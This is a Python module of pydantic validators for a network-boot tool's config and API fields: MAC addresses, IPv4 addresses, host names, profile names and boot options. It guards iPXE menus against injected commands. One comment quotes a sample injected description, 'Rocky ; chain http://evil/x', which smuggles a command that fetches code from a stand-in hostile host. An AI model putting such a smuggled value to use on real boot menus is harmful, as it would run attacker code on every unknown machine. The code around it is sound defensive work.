"""Field types every schema shares: the config file, profiles, groups and the API bodies.

Each is a :data:`typing.Annotated` pydantic type whose validator takes the value exactly as YAML or JSON
gave it and either returns the one internal form (a :class:`~netboot.mac.MacAddress`, an
:class:`~ipaddress.IPv4Address`, a checked string) or raises :class:`ValueError` with a reason an admin
can act on. The reasons are written for ``file:line: key: reason`` (see :func:`reason_of`), so the
validators are plain functions rather than pydantic's lax coercions: ``"8080"`` is not silently a port,
``true`` is not silently a string, and a newline never reaches an iPXE menu.

Each type also carries its JSON-schema shape (``WithJsonSchema``) so an OpenAPI document generated from
models that use it describes the wire form (a MAC is a string, not an object).
"""

from __future__ import annotations

import difflib
import re
from collections.abc import Callable, Sequence
from ipaddress import IPv4Address
from typing import Annotated, Any, ClassVar

from pydantic import BaseModel, ConfigDict, PlainSerializer, PlainValidator, WithJsonSchema, model_validator
from pydantic_core import ErrorDetails

from netboot.arch import Arch
from netboot.mac import InvalidMac, MacAddress

#: how a machine leaves for its disk: ``skip`` = no boot file at DHCP time (the firmware moves on at
#: once); ``auto``/``exit``/``sanboot`` = netboot's iPXE hands back (see profiles/_snippets/ipxe-local.j2)
LOCAL_BOOT_CHOICES = ("skip", "auto", "exit", "sanboot")
#: the ``local_boot`` of a machine nobody configured (and the default of the config key ``local-boot``)
DEFAULT_LOCAL_BOOT = "skip"
#: which loaders a UEFI x64 machine is handed: ``ipxe`` = netboot's iPXE fetches the boot script (no
#: Secure Boot: Debian's iPXE is unsigned); ``shim-grub`` = the Microsoft-signed shim loads signed GRUB,
#: for machines with UEFI Secure Boot on
BOOT_CHAIN_CHOICES = ("ipxe", "shim-grub")
#: the ``boot_chain`` of a machine nobody configured (and the default of the config key ``boot-chain``)
DEFAULT_BOOT_CHAIN = "ipxe"
ARCH_CHOICES = tuple(a.value for a in Arch)

#: Profile and group names appear in URLs (``/files/<profile>/``) and iPXE labels: keep them plain.
NAME_RE = re.compile(r"^[A-Za-z0-9][A-Za-z0-9._-]{0,63}$")
#: RFC 1123 host name: dot-separated labels of letters, digits and inner hyphens, 253 characters at most
HOSTNAME_RE = re.compile(
    r"^(?=.{1,253}$)[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?"
    r"(?:\.[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?)*$"
)
#: what no one-line admin text may hold: every character of Unicode category Cc (the C0 controls with
#: newline, CR, tab, NUL and escape; DEL; the C1 controls, NEL U+0085 and CSI U+009B among them) and the
#: line and paragraph separators U+2028/U+2029 (``str.splitlines`` and JavaScript break lines there).
#: A newline in a description would start a new command in the iPXE menu served to unknown machines, an
#: escape would move the cursor of the terminal that shows an error; tab is refused too, as one rule.
CONTROL_RE = re.compile(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]")
#: words iPXE splits one script line into several commands at (its src/core/exec.c, command_terminator):
#: the menu prints a description as ``item p-NAME DESCRIPTION``, so ``Rocky ; chain http://evil/x`` would
#: run ``chain`` on every unknown machine; a word starting with ``#`` drops the rest of the line
IPXE_SEPARATORS = (";", "&&", "||")
MAC_PATTERN = r"^[0-9A-Fa-f]{2}([:-]?[0-9A-Fa-f]{2}){5}$"


def type_name(value: Any) -> str:
    """How an admin would name the YAML/JSON type of ``value`` (``a mapping``, ``a number``...)."""
    if value is None:
        return "nothing (null)"
    return {
        dict: "a mapping",
        list: "a list",
        bool: "a boolean",
        int: "a number",
        float: "a number",
        str: "a string",
    }.get(type(value), type(value).__name__)


def did_you_mean(word: str, choices: Sequence[str]) -> str:
    """`` (did you mean 'kernel'?)`` when a choice is close to ``word``, else ``""``."""
    close = difflib.get_close_matches(word, list(choices), n=1, cutoff=0.6)
    return f" (did you mean {close[0]!r}?)" if close else ""


def reason_of(error: ErrorDetails) -> str:
    """The admin-facing reason of one pydantic error: our own ValueError's text, else pydantic's."""
    ctx = error.get("ctx") or {}
    cause = ctx.get("error")
    if error["type"] == "value_error" and isinstance(cause, Exception):
        return str(cause)
    if error["type"] == "assertion_error" and isinstance(cause, Exception):
        return str(cause)
    return str(error["msg"])


# -------------------------------------------------------------------------------------- validators


def control_reason(value: str) -> str | None:
    """Why ``value`` is not one-line text (the first :data:`CONTROL_RE` character and where), or None.

    The character is shown escaped (``'\\n'``, ``'\\x85'``): the admin cannot see most of them, and the
    message must stay one line.
    """
    found = CONTROL_RE.search(value)
    if found is None:
        return None
    return (
        f"must not contain control characters (newline, tab, ...): {found.group()!r} "
        f"at character {found.start() + 1}"
    )


def ipxe_separator(word: str) -> bool:
    """Whether iPXE reads ``word`` (one whitespace-free word) as the end of a command, not as text."""
    return word in IPXE_SEPARATORS or word.startswith("#")


def text(value: Any) -> str:
    """A string without control characters (see :data:`CONTROL_RE`)."""
    if not isinstance(value, str):
        raise ValueError(f"expected a string, got {type_name(value)}")
    reason = control_reason(value)
    if reason is not None:
        raise ValueError(reason)
    return value


def choice(what: str, choices: Sequence[str]) -> Callable[[Any], str]:
    """A validator accepting one of ``choices``; refusals name ``what`` and suggest the closest."""

    def check(value: Any) -> str:
        word = text(value)
        if word not in choices:
            raise ValueError(
                f"unknown {what} {word!r}{did_you_mean(word, choices)}; one of: {', '.join(choices)}"
            )
        return word

    return check


def mac(value: Any) -> MacAddress:
    """Any spelling :meth:`MacAddress.parse` accepts; a YAML number only when it kept all 12 digits."""
    if isinstance(value, MacAddress):
        return value
    if isinstance(value, int) and not isinstance(value, bool):
        # an unquoted 525400123456 is a YAML int; one with a leading zero lost digits (or was octal)
        if len(str(value)) != 12:
            raise ValueError("YAML read this MAC address as a number: put it in quotes")
        value = str(value)
    if not isinstance(value, str):
        raise ValueError(f"expected a MAC address, got {type_name(value)}")
    try:
        return MacAddress.parse(text(value))
    except InvalidMac as exc:
        raise ValueError(str(exc)) from None


def ipv4(value: Any) -> IPv4Address:
    """A dotted-quad IPv4 address; the refusal quotes the text (``Expected 4 octets in '10.0.0'``)."""
    if isinstance(value, IPv4Address):
        return value
    if isinstance(value, bool) or not isinstance(value, str | int):
        raise ValueError(f"expected an IPv4 address, got {type_name(value)}")
    try:
        return IPv4Address(str(value) if isinstance(value, int) else value)
    except ValueError as exc:
        raise ValueError(str(exc)) from None


def hostname(value: Any) -> str:
    """An RFC 1123 host name (``web1``, ``web1.lab.example``)."""
    word = text(value)
    if not HOSTNAME_RE.fullmatch(word):
        raise ValueError(f"{word!r} is not a host name (letters, digits, inner '-', dot-separated labels)")
    return word


def profile_name(value: Any) -> str:
    """A profile or group name, plain enough for URLs and iPXE labels."""
    word = text(value)
    if not NAME_RE.fullmatch(word):
        raise ValueError(f"{word!r} is not a profile name (must match {NAME_RE.pattern})")
    return word


# ---------------------------------------------------------------------------------------- the types

Text = Annotated[str, PlainValidator(text), WithJsonSchema({"type": "string"})]
Mac = Annotated[
    MacAddress,
    PlainValidator(mac),
    PlainSerializer(lambda m: m.colon, return_type=str),
    WithJsonSchema({"type": "string", "pattern": MAC_PATTERN, "examples": ["52:54:00:12:34:56"]}),
]
IPv4 = Annotated[
    IPv4Address,
    PlainValidator(ipv4),
    PlainSerializer(str, return_type=str),
    WithJsonSchema({"type": "string", "format": "ipv4"}),
]
Hostname = Annotated[
    str,
    PlainValidator(hostname),
    WithJsonSchema({"type": "string", "pattern": HOSTNAME_RE.pattern, "maxLength": 253}),
]
ProfileName = Annotated[
    str, PlainValidator(profile_name), WithJsonSchema({"type": "string", "pattern": NAME_RE.pattern})
]
LocalBoot = Annotated[
    str,
    PlainValidator(choice("local boot method", LOCAL_BOOT_CHOICES)),
    WithJsonSchema({"type": "string", "enum": list(LOCAL_BOOT_CHOICES)}),
]
BootChain = Annotated[
    str,
    PlainValidator(choice("boot chain", BOOT_CHAIN_CHOICES)),
    WithJsonSchema({"type": "string", "enum": list(BOOT_CHAIN_CHOICES)}),
]
ArchName = Annotated[
    str,
    PlainValidator(choice("arch", ARCH_CHOICES)),
    WithJsonSchema({"type": "string", "enum": list(ARCH_CHOICES)}),
]


class FileModel(BaseModel):
    """Base of every admin-written mapping: frozen, unknown keys refused, a non-mapping named plainly.

    ``not_mapping`` is the refusal for a value that is not a mapping (``{got}`` is its :func:`type_name`);
    with ``null_is_empty`` a key given no value (``dhcp:``) means an empty mapping.
    """

    model_config = ConfigDict(extra="forbid", frozen=True)
    not_mapping: ClassVar[str] = "must be a mapping, got {got}"
    null_is_empty: ClassVar[bool] = False

    @model_validator(mode="before")
    @classmethod
    def _a_mapping(cls, data: Any) -> Any:
        if data is None and cls.null_is_empty:
            return {}
        if not isinstance(data, dict):
            raise ValueError(cls.not_mapping.format(got=type_name(data)))
        return data
